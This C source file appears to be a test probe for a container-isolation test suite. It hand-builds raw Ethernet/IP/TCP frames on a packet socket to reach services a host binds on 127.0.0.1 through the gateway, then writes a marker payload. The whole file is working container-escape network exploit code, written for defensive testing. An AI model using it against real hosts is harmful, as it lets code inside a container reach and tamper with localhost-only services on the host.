/* Attack probe (issue 11 row 3): from inside a container, reach a service the
 * host binds on 127.0.0.1 by handing the gateway a frame addressed to
 * 127.0.0.1.  The container's own kernel would never route 127/8 out of
 * eth0, so the probe builds Ethernet + IPv4 + TCP by hand on an AF_PACKET
 * socket (CAP_NET_RAW is in Docker's default set), sends a SYN to the
 * gateway's MAC, waits for the SYN-ACK on the same socket and completes the
 * handshake with an ACK that carries a payload, as an attacker writing to
 * the lab hub would.  It also tries a plain connect() to 127.0.0.1 bound to
 * eth0.
 *
 *   rawframe DST_IP PORT [IFACE] [PAYLOAD]
 *
 * Prints one line per attempt: "synack yes|no", "connect ok|<errno text>",
 * and "sent" lines; exits 0 whether or not the attack worked (the test
 * decides from the host's side and from these lines). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t checksum(const void *data, size_t len, uint32_t sum) {
  const uint8_t *p = data;
  while (len > 1) { sum += (uint32_t)p[0] << 8 | p[1]; p += 2; len -= 2; }
  if (len) sum += (uint32_t)p[0] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static uint32_t pseudo_sum(uint32_t src, uint32_t dst, uint16_t len) {
  uint32_t sum = 0;
  src = ntohl(src); dst = ntohl(dst);
  sum += src >> 16; sum += src & 0xffff;
  sum += dst >> 16; sum += dst & 0xffff;
  sum += IPPROTO_TCP; sum += len;
  return sum;
}

/* The default route's gateway, from /proc/net/route (little-endian hex). */
static int default_gateway(const char *iface, struct in_addr *gw) {
  FILE *f = fopen("/proc/net/route", "r");
  if (!f) return -1;
  char line[256], name[64];
  unsigned dest, gateway;
  int found = -1;
  while (fgets(line, sizeof line, f)) {
    if (sscanf(line, "%63s %x %x", name, &dest, &gateway) == 3 && dest == 0 && strcmp(name, iface) == 0) {
      gw->s_addr = gateway;
      found = 0;
      break;
    }
  }
  fclose(f);
  return found;
}

/* The gateway's MAC from the ARP cache, after a datagram to it made the kernel resolve it. */
static int gateway_mac(struct in_addr gw, uint8_t mac[6]) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9), .sin_addr = gw };
  if (s >= 0) { sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to); close(s); }
  char want[32];
  snprintf(want, sizeof want, "%s", inet_ntoa(gw));
  for (int attempt = 0; attempt < 50; attempt++) {
    FILE *f = fopen("/proc/net/arp", "r");
    if (!f) return -1;
    char line[256], ip[64], hw[64];
    unsigned type, flags;
    while (fgets(line, sizeof line, f)) {
      if (sscanf(line, "%63s 0x%x 0x%x %63s", ip, &type, &flags, hw) == 4 && strcmp(ip, want) == 0 && (flags & 2)) {
        unsigned m[6];
        if (sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6) {
          for (int i = 0; i < 6; i++) mac[i] = (uint8_t)m[i];
          fclose(f);
          return 0;
        }
      }
    }
    fclose(f);
    usleep(20000);
  }
  return -1;
}

struct frame_ctx {
  int sock;
  int ifindex;
  uint8_t src_mac[6], dst_mac[6];
  struct in_addr src, dst;
  uint16_t sport, dport;
};

static int send_tcp(struct frame_ctx *c, uint32_t seq, uint32_t ack, uint8_t flags, const char *payload) {
  uint8_t buf[1514];
  size_t plen = payload ? strlen(payload) : 0;
  struct ether_header *eth = (struct ether_header *)buf;
  struct iphdr *iph = (struct iphdr *)(buf + sizeof *eth);
  struct tcphdr *tcp = (struct tcphdr *)((uint8_t *)iph + sizeof *iph);
  uint8_t *data = (uint8_t *)tcp + sizeof *tcp;
  if (plen > 1000) plen = 1000;
  memset(buf, 0, sizeof *eth + sizeof *iph + sizeof *tcp);
  memcpy(eth->ether_dhost, c->dst_mac, 6);
  memcpy(eth->ether_shost, c->src_mac, 6);
  eth->ether_type = htons(ETHERTYPE_IP);
  iph->version = 4;
  iph->ihl = 5;
  iph->ttl = 64;
  iph->protocol = IPPROTO_TCP;
  iph->tot_len = htons((uint16_t)(sizeof *iph + sizeof *tcp + plen));
  iph->id = htons((uint16_t)rand());
  iph->saddr = c->src.s_addr;
  iph->daddr = c->dst.s_addr;
  iph->check = checksum(iph, sizeof *iph, 0);
  tcp->source = htons(c->sport);
  tcp->dest = htons(c->dport);
  tcp->seq = htonl(seq);
  tcp->ack_seq = htonl(ack);
  tcp->doff = 5;
  tcp->syn = !!(flags & TH_SYN);
  tcp->ack = !!(flags & TH_ACK);
  tcp->psh = !!(flags & TH_PUSH);
  tcp->rst = !!(flags & TH_RST);
  tcp->window = htons(64240);
  if (plen) memcpy(data, payload, plen);
  uint16_t tcplen = (uint16_t)(sizeof *tcp + plen);
  tcp->check = checksum(tcp, tcplen, pseudo_sum(c->src.s_addr, c->dst.s_addr, tcplen));
  struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = c->ifindex, .sll_halen = 6 };
  memcpy(to.sll_addr, c->dst_mac, 6);
  size_t total = sizeof *eth + sizeof *iph + sizeof *tcp + plen;
  return sendto(c->sock, buf, total, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)total ? 0 : -1;
}

/* Waits up to `ms` for a TCP segment from dst:dport to src:sport with the given flags; returns its seq. */
static int wait_reply(struct frame_ctx *c, int ms, uint8_t want, uint32_t *seq) {
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    int left = ms - (int)((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
    if (left <= 0) return -1;
    struct pollfd p = { .fd = c->sock, .events = POLLIN };
    if (poll(&p, 1, left) <= 0) continue;
    uint8_t buf[2048];
    ssize_t n = recv(c->sock, buf, sizeof buf, 0);
    if (n < (ssize_t)(sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct tcphdr))) continue;
    struct ether_header *eth = (struct ether_header *)buf;
    if (ntohs(eth->ether_type) != ETHERTYPE_IP) continue;
    struct iphdr *iph = (struct iphdr *)(buf + sizeof *eth);
    if (iph->protocol != IPPROTO_TCP || iph->saddr != c->dst.s_addr || iph->daddr != c->src.s_addr) continue;
    struct tcphdr *tcp = (struct tcphdr *)((uint8_t *)iph + iph->ihl * 4);
    if (ntohs(tcp->source) != c->dport || ntohs(tcp->dest) != c->sport) continue;
    uint8_t flags = (uint8_t)((tcp->syn ? TH_SYN : 0) | (tcp->ack ? TH_ACK : 0) | (tcp->rst ? TH_RST : 0));
    if ((flags & want) == want) { *seq = ntohl(tcp->seq); return 0; }
  }
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: %s DST_IP PORT [IFACE] [PAYLOAD]\n", argv[0]);
    return 2;
  }
  const char *iface = argc > 3 ? argv[3] : "eth0";
  const char *payload = argc > 4 ? argv[4] : "PWNED-BY-CONTAINER\n";
  struct frame_ctx c = { .dport = (uint16_t)atoi(argv[2]) };
  srand((unsigned)time(NULL) ^ (unsigned)getpid());
  c.sport = (uint16_t)(20000 + rand() % 20000);
  if (inet_pton(AF_INET, argv[1], &c.dst) != 1) { fprintf(stderr, "bad address %s\n", argv[1]); return 2; }

  c.sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (c.sock < 0) { printf("packet-socket %s\n", strerror(errno)); return 1; }
  struct ifreq ifr = { 0 };
  snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", iface);
  if (ioctl(c.sock, SIOCGIFINDEX, &ifr) < 0) { printf("ifindex %s\n", strerror(errno)); return 1; }
  c.ifindex = ifr.ifr_ifindex;
  if (ioctl(c.sock, SIOCGIFHWADDR, &ifr) < 0) { printf("hwaddr %s\n", strerror(errno)); return 1; }
  memcpy(c.src_mac, ifr.ifr_hwaddr.sa_data, 6);
  int s4 = socket(AF_INET, SOCK_DGRAM, 0);
  if (ioctl(s4, SIOCGIFADDR, &ifr) < 0) { printf("ifaddr %s\n", strerror(errno)); return 1; }
  close(s4);
  c.src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
  struct sockaddr_ll bind_to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = c.ifindex };
  bind(c.sock, (struct sockaddr *)&bind_to, sizeof bind_to);

  struct in_addr gw;
  if (default_gateway(iface, &gw) < 0) { printf("gateway not found\n"); return 1; }
  if (gateway_mac(gw, c.dst_mac) < 0) { printf("gateway mac not found\n"); return 1; }
  printf("gateway %s %02x:%02x:%02x:%02x:%02x:%02x\n", inet_ntoa(gw), c.dst_mac[0], c.dst_mac[1], c.dst_mac[2], c.dst_mac[3], c.dst_mac[4], c.dst_mac[5]);

  /* Three tries at the handshake, each from a new port. */
  int got = 0;
  for (int attempt = 0; attempt < 3 && !got; attempt++, c.sport++) {
    uint32_t iss = (uint32_t)rand(), theirs = 0;
    if (send_tcp(&c, iss, 0, TH_SYN, NULL) < 0) { printf("send %s\n", strerror(errno)); continue; }
    printf("sent syn %s:%u\n", argv[1], c.dport);
    if (wait_reply(&c, 700, TH_SYN | TH_ACK, &theirs) == 0) {
      got = 1;
      send_tcp(&c, iss + 1, theirs + 1, TH_ACK, NULL);
      send_tcp(&c, iss + 1, theirs + 1, TH_ACK | TH_PUSH, payload);
      printf("sent payload\n");
      usleep(200000);
      send_tcp(&c, iss + 1 + (uint32_t)strlen(payload), theirs + 1, TH_RST | TH_ACK, NULL);
    }
  }
  printf("synack %s\n", got ? "yes" : "no");

  /* A plain socket, bound to eth0 so the lookup cannot take the container's own lo. */
  int t = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  setsockopt(t, SOL_SOCKET, SO_BINDTODEVICE, iface, (socklen_t)strlen(iface));
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(c.dport), .sin_addr = c.dst };
  int rc = connect(t, (struct sockaddr *)&to, sizeof to);
  if (rc < 0 && errno == EINPROGRESS) {
    struct pollfd p = { .fd = t, .events = POLLOUT };
    int error = ETIMEDOUT;
    socklen_t len = sizeof error;
    if (poll(&p, 1, 1500) == 1) getsockopt(t, SOL_SOCKET, SO_ERROR, &error, &len);
    rc = error ? -1 : 0;
    errno = error;
  }
  if (rc == 0) {
    ssize_t w = write(t, payload, strlen(payload));
    (void)w;
    printf("connect ok\n");
  } else {
    printf("connect %s\n", strerror(errno));
  }
  close(t);
  return 0;
}
